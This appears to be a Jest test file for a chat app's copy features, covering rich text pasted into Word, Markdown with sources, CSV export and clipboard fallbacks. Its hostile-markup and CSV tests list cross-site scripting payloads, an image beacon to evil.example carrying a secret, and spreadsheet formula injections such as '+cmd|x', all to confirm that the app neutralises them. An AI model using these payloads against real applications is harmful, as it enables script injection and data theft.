import { FluentProvider, webLightTheme } from '@fluentui/react-components';
import { act, fireEvent, render, screen, within } from '@testing-library/react';
import { hostileTexts } from '#tab/testing/hostileTexts.ts';
import { sampleCitation } from '#tab/testing/samples.ts';
import { AnswerMarkdown } from '#tab/features/chat/markdown/AnswerMarkdown.tsx';
import { toAnswerMarkdown } from './answerMarkdown.ts';
import { copyRichText } from './clipboard.ts';
import { toCsv } from '#contract/text/csv.ts';
import { tableToRichText, toRichText } from './richText.ts';

jest.mock('#tab/shell/openLink.ts', () => ({ openLink: jest.fn() }));
jest.mock('#tab/features/workspace/viewer/viewer.actions.ts', () => ({ openInViewer: jest.fn() }));

const travel = sampleCitation({
  number: 1,
  filename: 'Travel policy.pdf',
  pagenumber: 3,
  location: 'page 3',
  link: 'https://northwind.example/Travel%20policy.pdf',
});

/** The copied HTML as a document, read the way a program that runs no scripts reads it. */
function pasted(content: string, links = [travel]): HTMLElement {
  return document.adoptNode(new DOMParser().parseFromString(toRichText(content, links).html, 'text/html').body);
}

describe('Ada pastes an answer into Word', () => {
  const answer = [
    '# Travel',
    'Hotels cost up to **140 euros** [1].',
    '- trains\n  1. first\n- planes',
    '| City | Price |\n| - | -: |\n| Oslo | 160 |',
    '```js\nif (a < b) {\n  go();\n}\n```',
    'Open [the form](https://northwind.example/form?a=1&b=2).',
  ].join('\n\n');

  it('with headings, lists, table and code that need no style sheet', () => {
    const body = pasted(answer);
    expect(body.querySelector('h3')).toHaveTextContent('Travel');
    expect(body.querySelector('ul > li > ol > li')).toHaveTextContent('first');
    expect(body.querySelector('td')?.style.border).toBe('1px solid rgb(191, 191, 191)');
    expect(body.querySelector('pre')?.style.fontFamily).toContain('Consolas');
    expect(body.querySelector('pre')?.innerHTML).toBe('if (a &lt; b) {<br>&nbsp;&nbsp;go();<br>}');
    expect(body.querySelector('a')).toHaveAttribute('href', 'https://northwind.example/form?a=1&b=2');
    expect(body.querySelectorAll('[class], [id], button')).toHaveLength(0);
  });

  it('with citations as numbers, and file, page and link of each source at the end', () => {
    const body = pasted(answer);
    expect(body).toHaveTextContent('Hotels cost up to 140 euros [1].');
    expect(body.textContent).toMatch(/Sources\[1\] Travel policy\.pdf, page 3$/);
    expect([...body.querySelectorAll('a')].at(-1)).toHaveAttribute('href', travel.link);
  });

  it('without links to files that she cannot open', () => {
    const body = pasted('Closed [1].', [{ ...travel, standing: 'denied' }]);
    expect(body).toHaveTextContent('[1] Travel policy.pdf, page 3');
    expect(body.querySelector('a')).toBeNull();
  });

  it('with a long table in one piece', () => {
    const rows = Array.from({ length: 500 }, (_, index) => `| ${index} | row |`).join('\n');
    const body = pasted(`| Number | Kind |\n| - | - |\n${rows}\n\nEnd`);
    expect(body.querySelectorAll('table')).toHaveLength(1);
    expect(body.querySelectorAll('td')).toHaveLength(1_000);
    expect(body.querySelectorAll('th')).toHaveLength(2);
  });
});

it('copies Markdown with the sources named at the end', () => {
  const strange = { ...travel, number: 2, filename: 'a [draft] *1*.txt', link: null, location: '', pagenumber: null };
  expect(toAnswerMarkdown('Up to 140 euros [1].', [strange, travel])).toBe(
    'Up to 140 euros [1].\n\n**Sources**\n\n' +
      '- [1] [Travel policy.pdf](<https://northwind.example/Travel%20policy.pdf>), page 3\n' +
      '- [2] a \\[draft\\] \\*1\\*.txt\n',
  );
  expect(toAnswerMarkdown('No source.', [])).toBe('No source.');
});

describe('an answer with hostile markup', () => {
  /** @proves threat:copied-answer */
  it.each([
    '<script>window.hit=1</script>',
    '<img src=x onerror="window.hit=1">',
    '![secret](https://evil.example/pixel?q=secret)',
    '[a](javascript:window.hit=1)',
    '<a href="javascript:window.hit=1" onclick="window.hit=1" style="position:fixed">x</a>',
    '<style>body{background:url(https://evil.example/x)}</style>',
    '| a |\n| - |\n| <img src=https://evil.example/t> |',
    '```\n</pre><script>window.hit=1</script>\n```',
    '`</code><img src=x onerror=window.hit=1>`',
    '[1]: javascript:window.hit=1 "t"\n\nSee [1].',
  ])('%s copies nothing that runs or loads', (payload) => {
    const body = pasted(`See [1].\n\n${payload}`);
    expect(body.querySelectorAll('script, img, style, iframe, svg, [onclick], [onerror]')).toHaveLength(0);
    for (const link of body.querySelectorAll('a')) expect(link.getAttribute('href')).toMatch(/^(https?|mailto):/);
    for (const element of body.querySelectorAll<HTMLElement>('[style]'))
      expect(element.getAttribute('style')).not.toMatch(/position|url\(/);
  });

  it('names a source as text, whatever its name or address is', () => {
    const name = '<img src=x onerror=window.hit=1>.pdf';
    const body = pasted('See [1].', [{ ...travel, filename: name, link: 'javascript:window.hit=1' }]);
    expect(body).toHaveTextContent(`[1] ${name}`);
    expect(body.querySelectorAll('img, a')).toHaveLength(0);
  });

  it.each(Object.entries(hostileTexts))('%s can be copied', (_, make) => {
    expect(toRichText(make(3_000), []).html).toContain('<div');
  });
});

describe('a table as CSV', () => {
  it('quotes what Excel would split', () => {
    expect(toCsv([['a,b', 'say "hi"', 'two\nlines', 'plain', 'x;y']])).toBe(
      '"a,b","say ""hi""","two\nlines",plain,"x;y"',
    );
  });

  /** @proves threat:copied-answer */
  it.each(['=1+1', '+cmd|x', '-2+3', '@SUM(A1)', '\t=1', "=HYPERLINK('https://evil.example')", '-1=cmd'])(
    '%j is not run by Excel',
    (formula) => {
      expect(toCsv([[formula]])).toBe(`"'${formula.trim().replaceAll('"', '""')}"`);
    },
  );

  it.each(['-5', '+3.5', '-1,200.50', '-3%', ''])('%j stays a number', (number) => {
    expect(toCsv([[number, 'x']])).toMatch(
      number.includes(',') ? /^"-1,200.50",x$/ : new RegExp(`^\\${number},x$|^,x$`),
    );
  });
});

it('copies a table with tabs for Excel and borders for Word', () => {
  const { html, plain } = tableToRichText([
    ['City', 'Note'],
    ['Oslo', '<b>dear</b>\nin May'],
  ]);
  expect(plain).toBe('City\tNote\r\nOslo\t<b>dear</b> in May');
  expect(html).toContain('&lt;b&gt;dear&lt;/b&gt;');
  expect(html).toContain('border:1px solid');
});

describe('Ben copies a table of an answer', () => {
  const writeText = jest.fn(async (_text: string) => undefined);
  beforeEach(() => {
    writeText.mockClear();
    Object.defineProperty(navigator, 'clipboard', { configurable: true, value: { writeText } });
  });

  async function copyAs(label: string, text: string): Promise<void> {
    render(
      <FluentProvider theme={webLightTheme}>
        <AnswerMarkdown text={text} streaming={false} numbers={[]} />
      </FluentProvider>,
    );
    const frame = (await screen.findAllByRole('table'))[0]?.closest<HTMLElement>('[data-table]');
    fireEvent.click(within(frame as HTMLElement).getByRole('button', { name: 'Copy options' }));
    fireEvent.click(await screen.findByRole('menuitem', { name: label }));
    await act(async () => undefined);
  }

  it('as CSV', async () => {
    await copyAs('Copy as CSV', '| City | Price |\n| - | - |\n| **Oslo** | =160 |');
    expect(writeText).toHaveBeenCalledWith('City,Price\r\nOslo,"\'=160"');
  });

  it('with all its rows, also when it is rendered in pieces', async () => {
    jest.useFakeTimers();
    const rows = Array.from({ length: 200 }, (_, index) => `| ${index} | row |`).join('\n');
    render(
      <FluentProvider theme={webLightTheme}>
        <AnswerMarkdown text={`| Number | Kind |\n| - | - |\n${rows}`} streaming={false} numbers={[]} />
      </FluentProvider>,
    );
    while (jest.getTimerCount() > 0) act(() => jest.runOnlyPendingTimers());
    jest.useRealTimers();
    const pieces = document.querySelectorAll('[data-table]');
    expect(pieces.length).toBeGreaterThan(1);
    const { readTableRows } = await import('#tab/features/chat/markdown/tableRows.ts');
    for (const piece of pieces) expect(readTableRows(piece as HTMLElement)).toHaveLength(201);
  });
});

describe('the clipboard', () => {
  const text = Promise.resolve({ html: '<b>a</b>', plain: '**a**' });

  it('gets both formats', async () => {
    const write = jest.fn(async (_items: unknown[]) => undefined);
    const items: Record<string, Promise<Blob>>[] = [];
    class FakeItem {
      constructor(formats: Record<string, Promise<Blob>>) {
        items.push(formats);
      }
    }
    Object.assign(globalThis, { ClipboardItem: FakeItem });
    Object.defineProperty(navigator, 'clipboard', { configurable: true, value: { write } });
    await copyRichText(text);
    expect(Object.keys(items[0] ?? {})).toEqual(['text/html', 'text/plain']);
    expect((await items[0]?.['text/html'])?.size).toBe(8);
    Reflect.deleteProperty(globalThis, 'ClipboardItem');
  });

  it('gets both formats through the copy event where Teams blocks the Clipboard API', async () => {
    const data: Record<string, string> = {};
    Object.defineProperty(navigator, 'clipboard', {
      configurable: true,
      value: { write: () => Promise.reject(new Error('denied')) },
    });
    document.execCommand = () => {
      const event = Object.assign(new Event('copy', { cancelable: true }), {
        clipboardData: { setData: (type: string, value: string) => (data[type] = value) },
      });
      document.dispatchEvent(event);
      return event.defaultPrevented;
    };
    await copyRichText(text);
    Reflect.deleteProperty(document, 'execCommand');
    expect(data).toEqual({ 'text/html': '<b>a</b>', 'text/plain': '**a**' });
  });
});
